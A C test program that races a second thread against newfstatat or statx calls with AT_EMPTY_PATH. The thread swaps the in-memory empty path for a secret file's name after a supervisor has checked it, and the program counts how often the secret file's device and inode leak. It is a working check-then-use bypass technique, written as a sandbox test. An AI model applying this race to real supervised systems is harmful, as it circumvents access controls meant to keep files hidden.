/* glibc's fstat is newfstatat(fd, "", &st, AT_EMPTY_PATH): the "" is in memory. A second
   thread writes a secret path there while the call is in flight; a stat result that is
   the secret's (its device and inode, given by the test: a stat of it here would be
   refused) is a leak. Two ways to time the write, each ROUNDS rounds:
   - timed: after a delay of 0..118 us from the call's start (the kernel's own read
     loses some natively);
   - resident: as soon as the page holding the string is mapped again after
     MADV_DONTNEED (mincore), i.e. right after the first reader of the string (the
     kernel, natively; a supervisor that checks the string, then lets the kernel read it
     again, under one).
   usage: fstat_swap newfstatat|statx SECRET SECRET_DEV SECRET_INO ROUNDS
   prints "leaked N own M errors E of T" (own: the result is fd 0's own, as fstat(0)). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static char *page;
static const char *secret_path;
static volatile long go = -1, done = -1, delay_ns = -1;  /* delay -1: wait for the page instead */

static long now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000L + t.tv_nsec;
}

static __attribute__((noreturn)) void *swapper(void *unused) {
    (void)unused;
    unsigned char resident;
    for (long seen = 0;; seen++) {
        while (go < seen) ;
        if (delay_ns >= 0) {
            long start = now();
            while (now() - start < delay_ns) ;
        } else {
            do mincore(page, 4096, &resident); while (!(resident & 1));
        }
        memcpy(page, secret_path, strlen(secret_path) + 1);
        done = seen;
    }
}

int main(int argc, char **argv) {
    if (argc != 6) { fprintf(stderr, "usage: %s newfstatat|statx SECRET DEV INO ROUNDS\n", argv[0]); return 2; }
    int use_statx = strcmp(argv[1], "statx") == 0;
    secret_path = argv[2];
    unsigned long long secret_dev = strtoull(argv[3], 0, 10), secret_ino = strtoull(argv[4], 0, 10);
    long rounds = atol(argv[5]);
    struct stat own;
    if (fstat(0, &own) < 0) { perror("fstat"); return 1; }
    page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED) { perror("mmap"); return 1; }
    pthread_t thread;
    pthread_create(&thread, 0, swapper, 0);
    long leaked = 0, own_result = 0, errors = 0, total = 0;
    for (long i = 0; i < 2 * rounds; i++) {
        if (i < rounds) {
            delay_ns = (i % 60) * 2000;
            page[0] = 0;  /* "" then the secret's name, which the swap's '/' completes */
        } else {
            delay_ns = -1;
            madvise(page, 4096, MADV_DONTNEED);  /* "" (a zero page), mapped by its first reader */
        }
        unsigned long long dev, ino;
        long r;
        go = i;
        if (use_statx) {
            struct statx sx;
            r = syscall(SYS_statx, 0, page, AT_EMPTY_PATH, STATX_BASIC_STATS, &sx);
            dev = makedev(sx.stx_dev_major, sx.stx_dev_minor), ino = sx.stx_ino;
        } else {
            struct stat st;
            r = syscall(SYS_newfstatat, 0, page, &st, AT_EMPTY_PATH);
            dev = st.st_dev, ino = st.st_ino;
        }
        while (done < i) ;
        total++;
        if (r < 0) errors++;
        else if (dev == secret_dev && ino == secret_ino) leaked++;
        else if (dev == own.st_dev && ino == own.st_ino) own_result++;
    }
    printf("leaked %ld own %ld errors %ld of %ld\n", leaked, own_result, errors, total);
    fflush(stdout);
    _exit(0);
}
